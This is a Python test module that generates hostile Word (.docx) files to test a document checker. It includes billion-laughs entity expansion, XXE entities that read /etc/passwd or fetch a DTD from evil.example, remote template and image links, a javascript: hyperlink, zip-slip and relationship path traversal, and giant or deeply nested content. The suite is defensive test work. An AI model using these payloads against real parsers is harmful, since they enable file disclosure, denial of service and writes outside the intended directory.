"""Word files, and what calls itself one."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.hostile.attack import Attack

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_P = "<w:p><w:r><w:t>We meet on Mondays.</w:t></w:r></w:p>"


def body(inside: str) -> str:
    return f"<w:document {_W} {_R}><w:body>{inside}</w:body></w:document>"


def word(document: str | bytes = "", **parts: str | bytes) -> bytes:
    """A Word file; keyword names are parts, with __ for / and without .xml."""
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELS,
        "word/document.xml": document or body(_P),
    }
    files |= {f"{name.replace('__', '/')}": data for name, data in parts.items()}
    return zipped(files)


def zipped(files: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            made.writestr(name, data)
    return stream.getvalue()


def _encrypted() -> bytes:
    data = bytearray(word())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(mark)
        while at >= 0:
            flag = at + (6 if mark == b"PK\x03\x04" else 8)
            data[flag : flag + 2] = struct.pack("<H", 1)
            at = data.find(mark, at + 4)
    return bytes(data)


def _lying() -> bytes:
    """The size in the directory is not that of the member."""
    data = bytearray(word())
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 5)
    return bytes(data)


def _twice() -> bytes:
    stream = io.BytesIO(word())
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(stream, "a") as made:
            made.writestr("word/document.xml", body("<w:p/>"))
    return stream.getvalue()


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_TABLE = "<w:tbl><w:tr><w:tc>"
_LINK = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" '
    'TargetMode="External"/></Relationships>'
)
_STYLES = f"<w:styles {_W}>{{}}</w:styles>"


def _style(name: str, based_on: str) -> str:
    return (f'<w:style w:type="paragraph" w:styleId="{name}"><w:name w:val="{name}"/>'
            f'<w:basedOn w:val="{based_on}"/></w:style>')  # fmt: skip


_STYLE_LINK = _LINK.replace(' TargetMode="External"', "").format("styles", "styles.xml")
_FILES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "text": lambda: b"just words",
    "an old Word file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000),
    "the head of a zip": lambda: b"PK\x03\x04" + bytes(26),
    "cut off": lambda: word()[:-40],
    "an empty zip": lambda: zipped({}),
    "a zip of something else": lambda: zipped({"a.txt": "x"}),
    "locked": _encrypted,
    "sizes that lie": _lying,
    "one part twice": _twice,
    "no text": lambda: word(body("")),
    "no XML": lambda: word("just words"),
    "XML cut off": lambda: word(body(_P)[:-30]),
    "XML in UTF-16": lambda: word(('<?xml version="1.0" encoding="utf-16"?>' + body(_P)).encode("utf-16")),
    "XML in a coding that is none": lambda: word('<?xml version="1.0" encoding="x-evil"?>' + body(_P)),
    "laughs": lambda: word(f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>' + body("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>")),
    "an entity of the disk": lambda: word('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                                          + body("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>")),
    "an entity of the web": lambda: word('<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">' + body(_P)),
    "300 megabytes of spaces": lambda: word(body(_P + " " * 300_000_000)),
    "300 megabytes beside": lambda: word(word__media__x=" " * 300_000_000),
    "9 million paragraphs": lambda: word(body("<w:p/>" * 9_000_000)),
    "a million attributes": lambda: word(body("".join(f'<w:p w:a{n}="x"/>' for n in range(300_000)))),
    "a word of 20 megabytes": lambda: word(body(f"<w:p><w:r><w:t>{'x' * 20_000_000}</w:t></w:r></w:p>")),
    "tables 400 deep": lambda: word(body(_TABLE * 400 + _P + "</w:tc></w:tr></w:tbl>" * 400)),
    "tables 20,000 deep": lambda: word(body(_TABLE * 20_000)),
    "controls 500 deep": lambda: word(body("<w:sdt><w:sdtContent>" * 500 + _P + "</w:sdtContent></w:sdt>" * 500)),
    "boxes 300 deep": lambda: word(body("<w:p><w:r><w:pict><w:txbxContent>" * 300 + _P
                                        + "</w:txbxContent></w:pict></w:r></w:p>" * 300)),
    "a level that is no number": lambda: word(body('<w:p><w:pPr><w:numPr><w:ilvl w:val="x"/><w:numId w:val="1.5"/>'
                                                   "</w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>")),
    "a level of nothing": lambda: word(body('<w:p><w:pPr><w:numPr><w:ilvl w:val=""/><w:numId w:val="99999999999"/>'
                                            "</w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>")),
    "a size that is no number": lambda: word(body('<w:p><w:r><w:rPr><w:sz w:val="1e99"/></w:rPr><w:t>x</w:t></w:r></w:p>')),
    "a grid of a billion": lambda: word(body('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>'
                                             f"{_P}</w:tc></w:tr></w:tbl>")),
    "a file from the web": lambda: word(**{"word/_rels/document.xml.rels": _LINK.format("image", "https://evil.example/x")}),
    "a template from the web": lambda: word(**{"word/_rels/document.xml.rels":
                                              _LINK.format("attachedTemplate", "https://evil.example/x.dotm")}),
    "a link to a script": lambda: word(body('<w:p><w:hyperlink r:id="r1"><w:r><w:t>press</w:t></w:r></w:hyperlink></w:p>'),
                                       **{"word/_rels/document.xml.rels": _LINK.format("hyperlink", "javascript:alert(1)")}),
    "a part that leads out": lambda: word(**{"word/_rels/document.xml.rels":
                                            _STYLE_LINK.replace("styles.xml", "../../../../etc/passwd")}),
    "members that lead out": lambda: zipped({"../../outside/it-ran": "x", "/etc/it-ran": "x",
                                             "[Content_Types].xml": _TYPES, "_rels/.rels": _RELS,
                                             "word/document.xml": body(_P)}),
    "styles that go round": lambda: word(**{"word/_rels/document.xml.rels": _STYLE_LINK, "word/styles.xml":
                                           _STYLES.format(_style("a", "b") + _style("b", "a"))}),
    "styles 20,000 deep": lambda: word(**{"word/_rels/document.xml.rels": _STYLE_LINK, "word/styles.xml":
                                         _STYLES.format("".join(_style(f"s{n}", f"s{n + 1}") for n in range(20_000)))}),
    "60,000 members": lambda: zipped({f"a{n}": "" for n in range(60_000)}),
    "codes for the terminal": lambda: word(body("<w:p><w:r><w:t>a\u009b31mb\u202ec</w:t></w:r></w:p>")),
}  # fmt: skip


def _made(make: Callable[[], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(make())


ATTACKS = tuple(
    Attack(f"{name}, for {asked.split()[0]}", {"x.docx": _made(make)}, f"{asked} x.docx", -1,
           never="\u009b")
    for name, make in _FILES.items()
    for asked in ("check", "verify --edition easy-read")
)  # fmt: skip
